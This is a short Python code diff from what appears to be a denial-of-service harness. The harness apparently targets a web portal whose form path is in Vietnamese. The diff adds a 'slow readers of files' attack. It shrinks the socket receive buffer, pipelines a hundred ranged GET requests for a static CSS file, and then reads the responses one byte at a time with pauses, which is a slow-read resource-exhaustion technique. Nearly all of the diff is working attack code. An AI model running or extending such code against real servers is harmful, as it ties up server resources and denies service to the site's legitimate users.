@@ -10,6 +10,7 @@ from dataclasses import dataclass
 from field import HOST, Connection, Field
 
 FORM = "/hoi-dap/dat-cau-hoi/ca-nhan"
+FILE = "/static/portal.css"
 RESET = struct.pack("ii", 1, 0)
 SMALL_BUFFER = 4096
 
@@ -124,6 +125,15 @@ async def many_values(field: Field, connection: Connection) -> None:
 async def slow_reader(field: Field, connection: Connection) -> None:
     connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL_BUFFER)
     await field.send(connection, GET * 100)
+    while not field.is_over:
+        await field.receive(connection, 1)
+        await asyncio.sleep(0.1)
+
+
+@attack("slow readers of files")
+async def slow_file_reader(field: Field, connection: Connection) -> None:
+    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL_BUFFER)
+    await field.send(connection, (head("GET", FILE, "Range: bytes=0-") + b"\r\n") * 100)
     while not field.is_over:
         await field.receive(connection, 1)
         await asyncio.sleep(0.1)
